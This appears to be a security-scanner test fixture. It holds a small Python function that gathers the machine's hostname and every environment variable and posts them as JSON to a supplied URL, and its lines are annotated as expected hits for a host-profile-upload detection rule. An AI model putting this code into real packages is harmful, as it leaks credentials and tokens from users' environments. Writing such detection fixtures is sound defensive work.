# canary-test: path=mlc.py artifact=wheel
# System-info collector posting a host profile with the environment (inert host).
import json
import os
import socket
import urllib.request


def send_system_info(url):
    # ruleid: HOST_PROFILE_UPLOAD
    data = {"hostname": socket.gethostname(), "environment_variables": dict(os.environ)}
    # ruleid: HOST_PROFILE_UPLOAD
    req = urllib.request.Request(url, data=json.dumps(data).encode())
    urllib.request.urlopen(req)
# ok: IMPORT_TIME_RECON
